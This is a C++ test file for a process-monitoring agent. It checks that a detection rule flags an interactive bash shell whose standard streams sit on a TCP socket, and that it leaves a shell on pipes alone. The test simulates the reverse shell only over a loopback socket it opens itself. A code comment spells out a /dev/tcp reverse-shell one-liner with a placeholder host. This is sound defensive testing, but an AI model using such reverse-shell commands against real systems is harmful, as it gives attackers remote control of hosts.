// The bundled rule reverse-shell-socket end to end: the real agent and
// procmond, the rule copied from daemoneye/rules/, and two real shells the
// test starts — bash -i whose stdin, stdout and stderr are a TCP socket
// connected to a loopback listener of the test (must raise an alert naming
// its pid), and bash -i on pipes (must not). Also: process_open_sockets
// holds the connected socket with osquery's values, and procmond.sockets:
// false leaves the table empty.

#include "harness.hpp"
#include "store_query.hpp"

#include <nlohmann/json.hpp>

#include <fmt/format.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <spawn.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstring>

extern char** environ;

namespace detest {
namespace {

// A program started with posix_spawn and the given fds as its 0, 1 and 2
// (argv, no shell); SIGKILLed and reaped when destroyed.
class Spawned {
 public:
  Spawned(const std::vector<std::string>& argv, int in, int out, int err) {
    posix_spawn_file_actions_t fa;
    ::posix_spawn_file_actions_init(&fa);
    ::posix_spawn_file_actions_adddup2(&fa, in, 0);
    ::posix_spawn_file_actions_adddup2(&fa, out, 1);
    ::posix_spawn_file_actions_adddup2(&fa, err, 2);
    std::vector<char*> args;
    for (const auto& a : argv) args.push_back(const_cast<char*>(a.c_str()));
    args.push_back(nullptr);
    if (::posix_spawn(&pid_, argv[0].c_str(), &fa, nullptr, args.data(), environ) != 0) pid_ = -1;
    ::posix_spawn_file_actions_destroy(&fa);
  }
  ~Spawned() {
    if (pid_ > 0) {
      ::kill(pid_, SIGKILL);
      int st = 0;
      ::waitpid(pid_, &st, 0);
    }
  }
  Spawned(const Spawned&) = delete;
  Spawned& operator=(const Spawned&) = delete;
  [[nodiscard]] pid_t pid() const noexcept { return pid_; }

 private:
  pid_t pid_ = -1;
};

struct Fd {
  int fd = -1;
  explicit Fd(int f) : fd(f) {}
  ~Fd() {
    if (fd >= 0) ::close(fd);
  }
  Fd(const Fd&) = delete;
  Fd& operator=(const Fd&) = delete;
};

fs::path bundled_rule() {
  return fs::path(env_or_empty("AIRSSYS_SOURCE_DIR")) / "daemoneye/rules/reverse-shell-socket.yaml";
}

struct Fixture : AgentDir {
  explicit Fixture(bool sockets = true) {
    fs::copy_file(bundled_rule(), rules / "reverse-shell-socket.yaml");
    write_config(fmt::format("procmond: {{ sockets: {} }}\n", sockets ? "true" : "false"));
  }

  // Waits (at most 60 s) for a reverse-shell-socket alert naming `pid`.
  bool reverse_shell_raised_for(pid_t pid) const {
    return eventually(
        [&] {
          for (const auto& a : alerts_of("reverse-shell-socket"))
            if (a["row"].value("pid", -1) == pid) return true;
          return false;
        },
        60s);
  }
};

// A loopback TCP listener and a client connected to it (the accepted end
// kept open, so the connection stays ESTABLISHED).
struct Connection {
  Fd listener{::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)};
  Fd client{::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)};
  std::unique_ptr<Fd> accepted;
  int port = 0;

  bool open() {
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t len = sizeof addr;
    if (listener.fd < 0 || client.fd < 0) return false;
    if (::bind(listener.fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) return false;
    if (::listen(listener.fd, 1) != 0) return false;
    if (::getsockname(listener.fd, reinterpret_cast<sockaddr*>(&addr), &len) != 0) return false;
    port = ntohs(addr.sin_port);
    if (::connect(client.fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) return false;
    accepted = std::make_unique<Fd>(::accept4(listener.fd, nullptr, nullptr, SOCK_CLOEXEC));
    return accepted->fd >= 0;
  }
};

TEST(AgentSockets, AShellOnAConnectedSocketRaisesReverseShellSocketAndOneOnPipesDoesNot) {
  ASSERT_TRUE(fs::exists(bundled_rule())) << bundled_rule();
  Fixture f;
  Connection conn;
  ASSERT_TRUE(conn.open()) << std::strerror(errno);
  // The socket shell: bash -i reading commands from the connection (none
  // come, so it waits there).
  Spawned socket_shell({"/bin/bash", "-i"}, conn.client.fd, conn.client.fd, conn.client.fd);
  ASSERT_GT(socket_shell.pid(), 0);
  // The pipe shell: stdin from a pipe whose write end the test holds open.
  int in[2], out[2];
  ASSERT_EQ(::pipe2(in, O_CLOEXEC), 0);
  ASSERT_EQ(::pipe2(out, O_CLOEXEC), 0);
  Fd in_r(in[0]), in_w(in[1]), out_r(out[0]), out_w(out[1]);
  Spawned pipe_shell({"/bin/bash", "-i"}, in_r.fd, out_w.fd, out_w.fd);
  ASSERT_GT(pipe_shell.pid(), 0);

  auto agent = f.start_agent();
  const bool raised = f.reverse_shell_raised_for(socket_shell.pid());
  ASSERT_TRUE(raised) << "no reverse-shell-socket alert for pid " << socket_shell.pid() << "; agent log:\n"
                      << slurp(f.log);

  // Both shells were running before the agent's first scan, so the scan
  // that raised the alert saw the pipe shell too.
  for (const auto& a : f.alerts_of("reverse-shell-socket")) {
    EXPECT_NE(a["row"].value("pid", -1), pipe_shell.pid()) << a.dump();
    if (a["row"].value("pid", -1) == socket_shell.pid()) {
      EXPECT_EQ(a["row"].value("name", ""), "bash");
      EXPECT_EQ(a["row"].value("fd", -1), 0);
      EXPECT_EQ(a["row"].value("remote_address", ""), "127.0.0.1");
      EXPECT_EQ(a["row"].value("remote_port", -1), conn.port);
      EXPECT_EQ(a["row"].value("state", ""), "ESTABLISHED");
    }
  }

  // The table itself: the shell's three fds on one socket, osquery's values.
  const auto rows = rows_of(f.var / "daemoneye.db",
                            fmt::format("SELECT fd, family, protocol, remote_address, remote_port, state, "
                                        "local_address, socket, net_namespace FROM process_open_sockets "
                                        "WHERE pid = {} ORDER BY fd",
                                        socket_shell.pid()));
  ASSERT_GE(rows.size(), 3u);
  for (int fd = 0; fd < 3; ++fd) {
    const auto& r = rows[static_cast<std::size_t>(fd)];
    EXPECT_EQ(r[0], std::to_string(fd));
    EXPECT_EQ(r[1], "2");
    EXPECT_EQ(r[2], "6");
    EXPECT_EQ(r[3], "127.0.0.1");
    EXPECT_EQ(r[4], std::to_string(conn.port));
    EXPECT_EQ(r[5], "ESTABLISHED");
    EXPECT_EQ(r[6], "127.0.0.1");
    EXPECT_EQ(r[7], rows[0][7]);  // one socket behind the three fds
    EXPECT_FALSE(r[8].empty());
  }
  EXPECT_TRUE(rows_of(f.var / "daemoneye.db",
                      fmt::format("SELECT fd FROM process_open_sockets WHERE pid = {} AND fd IN (0, 1, 2)",
                                  pipe_shell.pid()))
                  .empty());

  // The collection's socket counters reach status.json through procmond's status.
  nlohmann::json sockets;
  EXPECT_TRUE(eventually(
      [&] {
        const auto j = nlohmann::json::parse(slurp(f.var / "status.json"), nullptr, /*allow_exceptions=*/false);
        if (!j.is_object() || !j.contains("procmond") || !j["procmond"]["status"].is_object()) return false;
        sockets = j["procmond"]["status"].value("sockets", nlohmann::json());
        return sockets.is_object();
      },
      30s))
      << slurp(f.var / "status.json");
  EXPECT_GE(sockets.value("rows", 0), 3) << sockets.dump();
  EXPECT_EQ(sockets.value("truncated", -1), 0) << sockets.dump();
  agent->signal(SIGTERM);
  EXPECT_EQ(agent->wait(30s), 0) << slurp(f.log);
}

// `exec 3<>/dev/tcp/H/P; unshare -rn bash -i <&3 >&3`: the shell runs in a
// network namespace of its own on a socket of the host's; procmond finds the
// socket in the host's tables and the rule still fires.
TEST(AgentSockets, AShellInAnotherNetworkNamespaceStillRaisesReverseShellSocket) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for unshare -n";
  Fixture f;
  Connection conn;
  ASSERT_TRUE(conn.open()) << std::strerror(errno);
  Spawned shell({"/usr/bin/unshare", "-n", "/bin/bash", "-i"}, conn.client.fd, conn.client.fd, conn.client.fd);
  ASSERT_GT(shell.pid(), 0);
  auto agent = f.start_agent();
  const bool raised = f.reverse_shell_raised_for(shell.pid());
  EXPECT_TRUE(raised) << "no reverse-shell-socket alert for pid " << shell.pid() << "; agent log:\n" << slurp(f.log);
  agent->signal(SIGTERM);
  EXPECT_EQ(agent->wait(30s), 0) << slurp(f.log);
}

TEST(AgentSockets, WithSocketsOffTheTableStaysEmptyAndNothingIsRaised) {
  Fixture f(/*sockets=*/false);
  Connection conn;
  ASSERT_TRUE(conn.open()) << std::strerror(errno);
  Spawned socket_shell({"/bin/bash", "-i"}, conn.client.fd, conn.client.fd, conn.client.fd);
  ASSERT_GT(socket_shell.pid(), 0);
  auto agent = f.start_agent();
  // Two scans stored: the shell was in both.
  ASSERT_TRUE(eventually(
      [&] {
        const auto n = rows_of(f.var / "daemoneye.db", "SELECT count(*) FROM scans");
        return !n.empty() && std::stoi(n[0][0]) >= 2;
      },
      60s))
      << slurp(f.log);
  EXPECT_EQ(rows_of(f.var / "daemoneye.db", "SELECT count(*) FROM process_open_sockets")[0][0], "0");
  EXPECT_TRUE(f.alerts_of("reverse-shell-socket").empty());
  agent->signal(SIGTERM);
  EXPECT_EQ(agent->wait(30s), 0) << slurp(f.log);
}

}  // namespace
}  // namespace detest
